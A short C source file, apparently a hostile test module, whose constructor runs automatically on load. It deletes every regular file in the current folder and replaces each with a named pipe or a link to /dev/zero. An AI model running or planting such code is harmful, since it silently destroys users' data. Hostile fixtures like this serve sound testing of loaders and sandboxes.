// Replaces each file of the folder that it runs in by a named pipe, or by a link to /dev/zero.
#include "../module.h"
#include <dirent.h>
#include <sys/stat.h>
#include <unistd.h>

__attribute__((constructor)) static void at_load(void) {
  DIR* folder = opendir(".");
  int number = 0;
  for (struct dirent* entry; (entry = readdir(folder));) {
    if (entry->d_type != DT_REG) continue;
    unlink(entry->d_name);
    if (number++ % 2) mkfifo(entry->d_name, 0600);
    else symlink("/dev/zero", entry->d_name);
  }
  closedir(folder);
}
